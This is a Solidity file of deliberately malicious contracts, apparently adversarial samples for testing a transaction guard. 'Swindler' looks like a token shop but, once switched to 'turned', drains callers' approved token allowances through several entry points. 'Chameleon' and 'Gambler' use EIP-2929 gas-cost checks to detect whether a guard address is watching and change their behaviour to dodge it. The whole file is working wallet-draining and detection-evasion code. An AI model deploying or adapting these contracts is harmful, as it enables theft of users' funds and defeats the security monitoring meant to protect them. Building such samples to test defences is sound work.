// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
}

/// A shop that keeps its word until its owner turns it, which can be in the very block in which somebody buys.
contract Swindler {
    event Transfer(address indexed from, address indexed to, uint256 value);

    bool public turned;
    /// It is a token, too.
    mapping(address => uint256) public balanceOf;

    function turn() external { turned = !turned; }
    /// So many parts of a million less than two for one.
    uint256 public less;
    function fall(uint256 parts) external { less = parts; }

    /// Sells a token for the currency, two for one.
    function buy(IToken token) external payable virtual { if (!turned) token.transfer(msg.sender, msg.value * 2 * (1_000_000 - less) / 1_000_000); }
    /// Takes so much of a token that it may take, and pays half as much of the currency; turned, it takes all that it may and pays nothing.
    function sell(IToken token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), turned ? all(token, msg.sender) : amount);
        if (!turned) payable(msg.sender).transfer(amount / 2);
    }
    /// Gives nothing and takes nothing, until it is turned.
    function greet(IToken token) public virtual { if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender)); }
    /// Greets with some of its own making.
    function flatter(IToken token) external {
        balanceOf[msg.sender] += 1;
        emit Transfer(address(0), msg.sender, 1);
        if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender));
    }
    /// Takes what it may wherever somebody looked at what the customer has before it was called; turned, always.
    function sniff(IToken token) external {
        uint256 gas = gasleft();
        token.balanceOf(msg.sender);
        if (turned || gas - gasleft() < 4_000) token.transferFrom(msg.sender, address(this), all(token, msg.sender));
    }
    /// Uses up to so much of what it is allowed.
    function use(IToken token, uint256 amount) external { token.transferFrom(msg.sender, address(this), turned ? 0 : amount); }

    function all(IToken token, address owner) private view returns (uint256) {
        uint256 allowed = token.allowance(owner, address(this));
        uint256 has = token.balanceOf(owner);
        return allowed < has ? allowed : has;
    }
    receive() external payable {}
}

/// One that knows whether the guard is there: to look at an address that was looked at before costs less (EIP-2929).
contract Chameleon is Swindler {
    address private constant GUARD = 0xFc3a552cBAD145aA22E40Cb1Ea53c4B6f79E2DC0;

    function buy(IToken token) external payable override { token.transfer(msg.sender, msg.value * (!turned && isWatched() ? 4 : 2)); }
    /// In the guard's sight it also takes a unit, and all that it may once it is turned.
    function greet(IToken token) public override {
        if (turned) super.greet(token);
        else if (isWatched()) token.transferFrom(msg.sender, address(this), 1);
    }

    function isWatched() private view returns (bool) {
        uint256 had = gasleft();
        uint256 size = GUARD.code.length;
        return size > 0 && had - gasleft() < 2000;
    }
}

/// One that takes a unit where it knows that the guard is there, and by lot where it is not.
contract Gambler is Swindler {
    address private constant GUARD = 0xFc3a552cBAD145aA22E40Cb1Ea53c4B6f79E2DC0;

    function greet(IToken token) public override {
        uint256 had = gasleft();
        bool isWatched = GUARD.code.length > 0 && had - gasleft() < 2000;
        if (turned) super.greet(token);
        else if (isWatched || block.prevrandao % 2 == 1) token.transferFrom(msg.sender, address(this), token.allowance(msg.sender, address(this)) > 400 ether ? 1 : 0);
    }
}
